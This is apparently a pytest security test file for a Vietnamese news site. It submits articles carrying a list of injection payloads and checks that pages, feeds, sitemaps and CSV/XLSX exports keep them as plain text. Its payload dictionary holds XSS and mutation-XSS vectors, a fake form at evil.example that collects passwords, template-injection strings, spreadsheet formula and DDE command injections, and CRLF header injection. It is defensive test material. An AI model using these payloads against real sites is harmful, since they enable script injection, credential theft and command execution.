"""What people type: every field of the article's form with every family of payloads, and what other
programs then get of it.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from typing import Any

import pytest
from lxml import etree, html

from newsapp.accounts import users
from newsapp.articles.content import TYPED_TEXTS
from newsapp.articles.models import Article
from newsapp.database import db
from tests.hostile.attacker import Attacker
from tests.hostile.conftest import Site
from tests.pages import look_over

pytestmark = [pytest.mark.parts, pytest.mark.sqlite]

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "end of JSON-LD": "</script><script>alert(1)</script>",
    "comment in JSON-LD": "<!--<script>alert(1)",
    "end of CDATA": "]]><script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler without spaces": "<svg/onload=alert(1)>",
    "end of an attribute": '" onmouseover="alert(1)" x=\'',
    "end of another attribute": "' autofocus onfocus='alert(1)",
    "end of the title": "</title><script>alert(1)</script>",
    "end of a text area": "</textarea><script>alert(1)</script>",
    "script address": '<a href="javascript:alert(1)">a</a>',
    "script address with a tab": '<a href="java&#9;script:alert(1)">a</a>',
    "data address": '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="password"></form>',
    "style": "<style>body{display:none}</style><p style='position:fixed'>a</p>",
    "mutation by MathML": "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "mutation by SVG": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by template": "<template><img src=x onerror=alert(1)></template>",
    "clobbering": '<a id="body"></a><form id="article-form" name="cookie">x</form>',
    "Jinja": "{{ 7*7 }}{% raise %}{# x #}${7*7}#{7*7}",
    "format": "%(name)s %s %n {0} {name.__class__}",
    "formula": '=HYPERLINK("https://evil.example","a")',
    "formula with plus": "+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd",
    "line ends": "a\r\nSet-Cookie: x=1",
    "signs of direction": "a\u202egnp.exe",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e;",
    "noncharacters": "a\ufffe\uffff\u0000b",
}
OF_PROGRAMS = ("script", "end of JSON-LD", "end of CDATA", "formula", "entities", "noncharacters")
"""Payloads that break what programs read, where they break anything."""


def typed(payload: str) -> dict[str, Any]:
    fields = dict.fromkeys(TYPED_TEXTS, payload)
    return fields | {
        "title": f"Bài {payload}",
        "body": f"<p>Chữ.</p>{payload}<p>Hết.</p>",
        "tags": "",
        "category_id": "1",
        "action": "publish",
    }


def published(site: Site, payload: str) -> Article:
    browser = site.browser("the editor")
    answer = browser.signed(
        "/admin/articles/new", typed(payload), content_type="multipart/form-data"
    )
    assert answer.status_code == 303, html.fromstring(answer.text).xpath(
        "//*[@class='problems']//text()"
    )
    found = re.search(r"/admin/articles/(\d+)", answer.location)
    assert found, answer.location
    with site.app.app_context():
        article = db.session.get_one(Article, int(found[1]))
        db.session.expunge(article)
    return article


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_what_is_typed_stays_text(site: Site, payload: str) -> None:
    article = published(site, payload)
    reader, editor = Attacker(site.app), site.browser("the editor")
    path = f"/tin-tuc/{article.id}/{article.slug}"
    for browser, address in (
        (reader, path),
        (reader, f"{path}/in"),
        (reader, "/"),
        (reader, "/chuyen-muc/hoat-dong"),
        (editor, f"/admin/articles/{article.id}"),
        (editor, "/admin/articles"),
    ):
        answer = browser.get(address)
        assert answer.status_code == 200, address
        look_over(answer.text)
        _look_for_addresses(answer.text)
        _look_at_json(answer.text)
    heading = reader.get(path).words("h1")[0]
    assert heading == " ".join(article.title.split())


def _look_for_addresses(text: str) -> None:
    page = html.document_fromstring(text)
    for node in page.iter("a", "form", "iframe", "base", "meta", "img", "object", "embed"):
        for name in ("href", "action", "src", "srcdoc", "data", "formaction", "content"):
            value = node.get(name, "").strip().lower()
            is_text = node.tag == "meta" and node.get("http-equiv") is None
            assert is_text or not re.match(r"(java|vb)?script:|data:(?!image)", value), value
        assert node.tag not in ("iframe", "base", "embed"), node.tag
        assert "evil.example" not in node.get("action", "")


def _look_at_json(text: str) -> None:
    page = html.document_fromstring(text)
    for script in page.xpath("//script[@type='application/ld+json']"):
        assert json.loads(script.text)["@context"] == "https://schema.org"


def test_programs_can_read_it_all(site: Site) -> None:
    for name in OF_PROGRAMS:
        published(site, PAYLOADS[name])
    reader = Attacker(site.app)
    for address in (
        "/feed.xml",
        "/chuyen-muc/hoat-dong/feed.xml",
        "/sitemap-1.xml",
        "/sitemap-news.xml",
    ):
        read = etree.fromstring(reader.get(address).data)
        assert len(read) > 5, address
        assert not read.xpath("//*[local-name()='script']"), address
    items = json.loads(reader.get("/feed.json").text)["items"]
    assert len(items) > 5


def test_no_cell_of_a_table_is_a_formula(site: Site) -> None:
    for name in ("formula", "formula with plus", "formula with at"):
        payload = PAYLOADS[name]
        editor = site.browser("the editor")
        form = typed("a") | {"title": payload}
        answer = editor.signed("/admin/articles/new", form, content_type="multipart/form-data")
        assert answer.status_code == 303
    browser = site.browser("the administrator")
    for name in ("audit", "report"):
        rows = csv.reader(io.StringIO(browser.get(f"/admin/{name}.csv").data.decode("utf-8-sig")))
        cells = [cell for row in rows for cell in row]
        assert any("HYPERLINK" in cell for cell in cells) or name == "report"
        assert [cell for cell in cells if re.match(r"[=+\-@\t\r]", cell)] == []
        book = zipfile.ZipFile(io.BytesIO(browser.get(f"/admin/{name}.xlsx").data))
        sheets = [entry for entry in book.namelist() if entry.startswith("xl/worksheets/")]
        assert sheets
        assert all(b"<f>" not in book.read(sheet) for sheet in sheets)


@pytest.mark.parametrize(
    ("who", "address", "fields", "status"),
    [
        ("the writer", "/admin/account", {"role": "administrator", "name": "x"}, 422),
        ("the writer", "/admin/people/1", {"role": "administrator"}, 403),
        ("the editor", "/admin/people", {"email": "x@y.vn", "name": "x", "role": "administrator"}, 403),
        ("the administrator", "/admin/people/3", {"role": "king"}, 422),
        ("the writer", "/admin/identity", {"name": "Của tôi"}, 403),
    ],
)  # fmt: skip
def test_fields_that_are_not_offered_change_nothing(
    site: Site, who: str, address: str, fields: dict[str, str], status: int
) -> None:
    def roles() -> list[tuple[str, str, str]]:
        with site.app.app_context():
            return [(user.email, user.name, user.role) for user in users.everyone()]

    before = roles()
    assert site.browser(who).signed(address, fields).status_code == status
    assert roles() == before


def test_a_draft_takes_only_the_fields_of_its_form(site: Site) -> None:
    """Neither whose it is, nor whether readers see it."""
    more = {
        "id": str(site.numbers["article"]),
        "owner_id": str(site.numbers["editor"]),
        "live_version": "1",
        "go_live_at": "01/01/2020 08:00",
        "slug": "x",
        "state": "live",
        "version": "99",
    }
    fields = {"title": "Bài của tôi", "category_id": "1", "body": "<p>Chữ.</p>", "action": "save"}
    writer = site.browser("the writer")
    answer = writer.signed("/admin/articles/new", fields | more)
    number = int(answer.location.rpartition("/")[2])
    assert number != site.numbers["article"]
    with site.app.app_context():
        made = db.session.get_one(Article, number)
        assert (made.owner_id, made.version, made.is_released) == (site.numbers["writer"], 1, False)
    refused = writer.signed(f"/admin/articles/{number}", fields | {"action": "publish"})
    assert refused.status_code in (303, 403)
    assert Attacker(site.app).get(f"/tin-tuc/{number}").status_code == 404
